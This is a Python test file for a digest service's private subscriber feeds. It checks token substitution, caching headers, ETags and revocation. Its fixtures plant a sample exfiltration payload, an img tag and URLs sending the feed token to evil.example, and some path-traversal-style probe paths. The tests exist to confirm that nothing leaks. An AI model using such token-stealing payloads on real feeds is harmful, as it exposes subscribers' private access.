"""A feed for one subscriber: who can read it, what is in it, and when it ends."""

from __future__ import annotations

import gzip
import json
from collections.abc import Iterator
from dataclasses import replace
from hashlib import sha256
from pathlib import Path

import brotli
import pytest

from builders import NOW, a_feed, a_suppression, an_entry
from digest import paths
from digest.errors import StoreError
from digest.feeds import FeedKind
from digest.render.feeds import render_atom, render_rss
from digest.render.jsonfeed import render_json
from digest.replacing import replace_file
from digest.secret import Secret, token_digest
from digest.subscribers.private_feeds import renew_feed, take_back_feed
from digest.web import private_feeds
from digest.web.app import make_app
from digest.wiring import Press
from serving import Client, serving
from store_steps import add_readers

TOKEN = "t0ken-of-Ann_with-enough-letters"
URL = "https://notes.example.org/private/{token}/{name}"
FEED = """<?xml version='1.0' encoding='UTF-8'?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <link href="{self}" rel="self"/><link href='{rss}' rel="alternate"/>
  <docs>{json}</docs>
  <content type="html">{evil}</content>
</feed>
"""


def shared_feed() -> bytes:
    """The document as the build writes it, with an article that wants the token."""
    urls = {
        key: URL.format(token=paths.TOKEN_PLACE, name=name)
        for key, name in (
            *(("self", "atom.xml"), ("rss", "rss.xml"), ("json", "feed.json")),
        )
    }
    stolen = f"https://evil.example/?{urls['self']}"
    evil = (
        f'&lt;img src="{stolen}"&gt; "{stolen}" {paths.TOKEN_PLACE} '
        f'"https://evil.example/private/{paths.TOKEN_PLACE}/atom.xml" '
    )
    return FEED.format(evil=evil * 5, **urls).encode()


def shared_json() -> bytes:
    """The same in JSON, where quotes in a text have a backslash."""
    url = URL.format(token=paths.TOKEN_PLACE, name="feed.json")
    evil = f"https://evil.example/?>{url}<"
    html = f'<a href="{url}#note">note</a><img src="{evil}">' + "text " * 100
    document = {"feed_url": url, "items": [{"url": f"{url}#one", "content_html": html}]}
    return json.dumps(document).encode()


@pytest.fixture
def private(press: Press) -> Press:
    """A press with private feeds, and Ann who has one."""
    feeds = replace(press.config.feeds, private=True)
    press = replace(press, config=replace(press.config, feeds=feeds))
    folder = press.config.state_folder / paths.PRIVATE
    folder.mkdir(parents=True)
    for name in (paths.ATOM, paths.RSS):
        (folder / name).write_bytes(shared_feed())
    (folder / paths.JSON).write_bytes(shared_json())
    (ann,) = add_readers(press.store, "ann@example.net")
    assert press.store.add_private_feed(ann, token_digest(TOKEN), now=NOW)
    return press


@pytest.fixture
def asking(private: Press) -> Iterator[Client]:
    """Asks for private feeds."""
    with serving(make_app(private)) as client:
        yield client


def path_of(name: str = "atom.xml", token: str = TOKEN) -> str:
    """Where the feed stands."""
    return f"/{paths.private_path(token)}{name}"


def test_the_token_takes_its_place_in_our_addresses_only(asking: Client) -> None:
    """rel=self is the address that was asked for; no article carries the token away."""
    text = asking.ask(path_of()).text
    assert (
        f'<link href="{URL.format(token=TOKEN, name="atom.xml")}" rel="self"/>' in text
    )
    assert f"href='{URL.format(token=TOKEN, name='rss.xml')}'" in text
    assert f">{URL.format(token=TOKEN, name='feed.json')}<" in text
    assert text.count(TOKEN) == 3
    assert f"evil.example/?https://notes.example.org/private/{TOKEN}" not in text


def test_an_entry_is_named_behind_the_address(asking: Client) -> None:
    """In its link, and where its text refers to itself; in JSON as in XML."""
    told = asking.ask(path_of("feed.json")).text
    url = URL.format(token=TOKEN, name="feed.json")
    document = json.loads(told)
    assert document["feed_url"] == url
    assert document["items"][0]["url"] == f"{url}#one"
    assert f'<a href="{url}#note">' in document["items"][0]["content_html"]
    assert told.count(TOKEN) == 3


def test_what_the_build_writes_is_filled_in_everywhere(
    private: Press, asking: Client
) -> None:
    """In the addresses of all three formats, of the feed and of its private entries."""
    place = f"https://notes.example.org/{paths.private_path(paths.TOKEN_PLACE)}"
    entry = an_entry(title="Only for Ann", url=f"{place}atom.xml#only-for-ann")
    feed = a_feed(
        path=paths.private_path(paths.TOKEN_PLACE),
        kind=FeedKind.PRIVATE,
        atom_url=f"{place}atom.xml",
        rss_url=f"{place}rss.xml",
        json_url=f"{place}feed.json",
        entries=(entry, an_entry()),
    )
    folder = private.config.state_folder / paths.PRIVATE
    for render in (render_atom, render_rss, render_json):
        document = render(feed)
        name = document.path.rpartition("/")[2]
        assert isinstance(document.data, bytes)
        (folder / name).write_bytes(document.data)
        told = asking.ask(path_of(name)).text
        assert paths.TOKEN_PLACE not in told
        assert URL.format(token=TOKEN, name=name) in told
        assert f"{URL.format(token=TOKEN, name='atom.xml')}#only-for-ann" in told


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("atom.xml", "application/atom+xml; charset=utf-8"),
        ("rss.xml", "application/rss+xml; charset=utf-8"),
        ("feed.json", "application/feed+json; charset=utf-8"),
    ],
)
def test_it_is_for_one_reader_and_no_search_engine(
    asking: Client, name: str, kind: str
) -> None:
    """Kept by nobody between us, named to nobody else."""
    headers = asking.ask(path_of(name)).headers
    assert headers["content-type"] == kind
    assert headers["cache-control"] == "private, max-age=900"
    assert headers["x-robots-tag"] == "noindex, nofollow"
    assert headers["referrer-policy"] == "no-referrer"


def test_a_browser_gets_plain_xml(asking: Client) -> None:
    """As of every other feed."""
    answer = asking.ask(path_of(), Sec_Fetch_Dest="document")
    assert answer.headers["content-type"] == "application/xml; charset=utf-8"


@pytest.mark.parametrize(
    ("coding", "opened"),
    [("identity", bytes), ("gzip", gzip.decompress), ("br", brotli.decompress)],
)
def test_the_tag_is_of_the_very_bytes(
    asking: Client, coding: str, opened: type[bytes]
) -> None:
    """In each encoding; and who has them is told so in few octets."""
    plain = asking.ask(path_of())
    answer = asking.ask(path_of(), Accept_Encoding=coding)
    tag = answer.headers["etag"]
    assert opened(answer.body) == plain.body
    assert tag == f'"{sha256(answer.body).hexdigest()[:32]}"'
    again = asking.ask(path_of(), Accept_Encoding=coding, If_None_Match=tag)
    assert (again.status, again.body) == (304, b"")
    assert again.headers["etag"] == tag
    assert "content-security-policy" not in again.headers
    head = asking.ask(path_of(), method="HEAD", Accept_Encoding=coding)
    assert (head.status, head.body, head.headers["etag"]) == (200, b"", tag)


def test_two_readers_have_two_tags(private: Press, asking: Client) -> None:
    """Their bytes differ."""
    (bob,) = add_readers(private.store, "bob@example.net")
    private.store.add_private_feed(bob, token_digest("b" * 32), now=NOW)
    ann = asking.ask(path_of()).headers["etag"]
    assert asking.ask(path_of(token="b" * 32)).headers["etag"] != ann
    assert asking.ask(path_of(token="b" * 32), If_None_Match=ann).status == 200


def test_a_new_document_is_served_at_once(private: Press, asking: Client) -> None:
    """The old tag does not hold for it."""
    old = asking.ask(path_of()).headers["etag"]
    path = private.config.state_folder / paths.PRIVATE / "atom.xml"
    replace_file(path, shared_feed() + b"<!-- news -->", is_durable=False)
    answer = asking.ask(path_of(), If_None_Match=old)
    assert answer.status == 200
    assert answer.body.endswith(b"<!-- news -->")


def test_tags_are_bounded(asking: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    """What is forgotten is made again."""
    monkeypatch.setattr(private_feeds, "MOST_TAGS", 1)
    tags = [asking.ask(path_of(name)).headers["etag"] for name in paths.FEEDS]
    assert [asking.ask(path_of(name)).headers["etag"] for name in paths.FEEDS] == tags


@pytest.mark.parametrize(
    "path",
    [
        path_of(token="x" * 32),
        path_of(token=TOKEN[:-1]),
        path_of(token=paths.TOKEN_PLACE),
        path_of("index.html"),
        path_of("nothing.xml"),
        "/private/",
        f"/private/{TOKEN}/",
        f"/private/{TOKEN}/x/atom.xml",
        path_of(token="%2e%2e"),
        path_of(token="%ff%fe"),
        path_of(token="a" * 3000),
    ],
)
def test_all_else_is_not_there(asking: Client, path: str) -> None:
    """Nobody learns whether a token was nearly right."""
    answer = asking.ask(path)
    assert answer.status == 404
    assert b"evil" not in answer.body


def leave(press: Press, number: int) -> None:
    """The reader unsubscribes."""
    press.store.unsubscribe(number, "", now=NOW)


def suppress(press: Press, number: int) -> None:
    """Mail to the reader came back for good."""
    press.store.suppress(a_suppression("ann@example.net"))


def revoke(press: Press, number: int) -> None:
    """The owner takes the feed back."""
    reader = press.store.subscriber(number)
    assert reader is not None
    assert take_back_feed(press.store, reader, now=NOW)


def renew(press: Press, number: int) -> None:
    """The reader gets another address."""
    reader = press.store.subscriber(number)
    assert reader is not None
    assert renew_feed(press.store, reader, Secret("n" * 32), now=NOW)


def forget(press: Press, number: int) -> None:
    """All that is known of the reader is erased."""
    assert press.store.forget(number)


@pytest.mark.parametrize("end", [leave, suppress, revoke, renew, forget])
def test_it_ends_at_once_and_for_good(
    private: Press, asking: Client, end: object
) -> None:
    """410, so that feed readers stop asking; in plain text."""
    ann = private.store.find_subscriber("ann@example.net")
    assert ann is not None
    assert asking.ask(path_of()).status == 200
    assert callable(end)
    end(private, ann.id)
    answer = asking.ask(path_of())
    assert answer.status == 410
    assert answer.headers["content-type"].startswith("text/plain")
    assert asking.ask(path_of(token="n" * 32)).status == (200 if end is renew else 404)


def test_before_the_first_build_one_is_asked_to_come_again(
    private: Press, asking: Client
) -> None:
    """The address is good, so it must not look as if it were gone."""
    (private.config.state_folder / paths.PRIVATE / "atom.xml").unlink()
    answer = asking.ask(path_of())
    assert (answer.status, answer.headers["retry-after"]) == (503, "60")


def test_a_store_that_does_not_answer_is_our_fault(
    private: Press, asking: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    """503, so that the reader's program tries again."""

    def mute(*_: object) -> None:
        raise StoreError("digest.sqlite: is locked; try again later")

    monkeypatch.setattr(private.store, "feed_access", mute)
    answer = asking.ask(path_of())
    assert (answer.status, answer.headers["retry-after"]) == (503, "30")


def test_without_the_option_nothing_is_there(private: Press) -> None:
    """Whatever tokens were given."""
    feeds = replace(private.config.feeds, private=False)
    off = replace(private, config=replace(private.config, feeds=feeds))
    with serving(make_app(off)) as client:
        assert client.ask(path_of()).status == 404


def test_nothing_of_it_stands_in_the_published_tree(
    private: Press, asking: Client
) -> None:
    """It is made when it is asked for."""
    asking.ask(path_of())
    folder: Path = private.config.feeds_folder
    assert not (folder / paths.PRIVATE).exists()
